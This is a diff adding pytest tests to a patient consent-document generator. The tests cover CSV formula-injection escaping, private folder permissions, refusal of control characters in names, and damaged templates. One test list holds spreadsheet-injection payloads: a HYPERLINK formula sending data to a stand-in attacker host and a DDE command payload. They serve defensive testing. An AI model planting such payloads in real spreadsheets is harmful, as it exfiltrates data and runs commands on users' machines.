@@ -4,12 +4,14 @@ document run away."""
 
 from __future__ import annotations
 
+import csv
 import os
 import re
 import signal
 import subprocess
 import sys
 import time
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -235,3 +237,100 @@ def test_a_desk_reference_longer_than_a_reference_is_named_next_to_it(desk):
     page = response.get_data(as_text=True)
     assert 'id="ref-error"><p>the patient reference is 65 characters long; at most 64' in page
     assert list(output.iterdir()) == []
+
+
+HOSTILE_REFERENCES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1",
+    "-2+3", "'quoted",
+]  # fmt: skip
+
+
+def test_manifest_cells_are_text_a_spreadsheet_never_runs(tmp_path):
+    header = ["Patient", "Ref", "Treatment", "Areas", "Documents"]
+    rows = [[f"Patient {i}", ref, "REJUV", "FACE", "estimate"]
+            for i, ref in enumerate(HOSTILE_REFERENCES)]  # fmt: skip
+    appointments = write_csv(tmp_path / "day.csv", header, rows)
+    out = tmp_path / "out"
+    result = CliRunner().invoke(main, ["batch", str(appointments), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    with (out / "manifest.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [record["patient_ref"] for record in csv.DictReader(handle)]
+    assert cells == ["'" + ref for ref in HOSTILE_REFERENCES]  # OWASP: a leading quote
+    assert [d.patient_ref for d in read_manifest(out)] == HOSTILE_REFERENCES
+    again = CliRunner().invoke(main, ["batch", str(appointments), "-o", str(out)])
+    assert again.exit_code == 0 and "0 document(s) made" in again.output
+
+
+def test_folders_made_for_patient_documents_are_private(run, tmp_path):
+    """0755 folders let other users of the computer list patients' names and birth dates."""
+    header = ["Patient", "DOB", "Treatment", "Areas", "Documents"]
+    appointments = write_csv(
+        tmp_path / "day.csv", header, [["Ann Lee", "1980-01-02", "REJUV", "FACE", "estimate"]]
+    )
+    assert run("batch", appointments, "-o", "a/b/c").exit_code == 0
+    assert run("estimate", "--patient", "Bo", "--item", "REJUV:FACE", "-o", "x/y/").exit_code == 0
+    folders = [tmp_path / f for f in ("a", "a/b", "a/b/c", "x", "x/y")]
+    folders += [p for p in (tmp_path / "a/b/c").iterdir() if p.is_dir()]  # the patient's own
+    assert len(folders) == 6
+    for folder in folders:
+        assert folder.stat().st_mode & 0o777 == 0o700, folder
+
+
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [("Ann \u202eeeL", "U+202E"), ("Ann\x7f Lee", "U+007F"), ("Ann\x85Lee", "U+0085"),
+     ("\u2067Ann Lee", "U+2067")],
+)  # fmt: skip
+def test_a_name_that_would_read_differently_on_paper_is_refused(workspace, tmp_path, name, code):
+    with pytest.raises(PlanError) as refused:
+        create_consent(workspace, name, "REJUV", ["FACE"], output=tmp_path / "a.docx")
+    assert str(refused.value) == (
+        f"the patient's name holds an invisible control character ({code})"
+    )
+    with pytest.raises(PlanError, match=rf"the interpreter's name holds .*\({re.escape(code)}\)"):
+        create_consent(
+            workspace, "Ann Lee", "REJUV", ["FACE"], interpreter=name, output=tmp_path / "b.docx"
+        )
+    assert not list(tmp_path.glob("*.docx"))
+
+
+def test_right_to_left_names_keep_their_marks(workspace, tmp_path):
+    name = "\u200fليلى حداد"  # a right-to-left mark is not a control character that reorders
+    form = create_consent(workspace, name, "REJUV", ["FACE"], locale="ar", output=tmp_path / "a")
+    assert name in docx_text(form.docx)
+
+
+def damaged(template: Path, member: str, change) -> None:
+    """Rewrite one member of a .docx package, as a failed copy or a crashed save leaves it."""
+    with zipfile.ZipFile(template) as package:
+        members = [(item, package.read(item)) for item in package.infolist()]
+    with zipfile.ZipFile(template, "w") as package:
+        for item, data in members:
+            package.writestr(item, change(data) if item.filename == member else data)
+
+
+@pytest.mark.parametrize(
+    ("member", "change", "reason"),
+    [("word/document.xml", lambda data: data[: len(data) // 2], "XMLSyntaxError"),
+     ("[Content_Types].xml", lambda data: b"<Types xmlns='x'><no/></Types>", "AttributeError")],
+)  # fmt: skip
+def test_a_damaged_template_is_named_everywhere_without_a_traceback(
+    workspace, tmp_path, member, change, reason
+):
+    damaged(workspace.template("consent.docx"), member, change)
+    expected = "template consent.docx: is damaged: a part of it cannot be read"
+    runner = CliRunner()
+    for command in (
+        ["check"],
+        ["consent", "--patient", "Ann Lee", "--treatment", "REJUV", "--area", "FACE", "-o",
+         str(tmp_path / "c.docx")],
+        ["batch", str(write_csv(tmp_path / "d.csv", ["Patient", "Treatment", "Areas"],
+                                [["Ann Lee", "REJUV", "FACE"]])), "-o", str(tmp_path / "out")],
+    ):  # fmt: skip
+        result = runner.invoke(main, ["--workspace", str(workspace.root), *command])
+        assert result.exit_code == 1, (command, result.output)
+        assert expected in result.output and reason in result.output, result.output
+        assert "Traceback" not in result.output
+    assert not (tmp_path / "c.docx").exists()
+    health = create_app(workspace, tmp_path).test_client().get("/health")
+    assert health.status_code == 200 and expected in health.get_data(as_text=True)
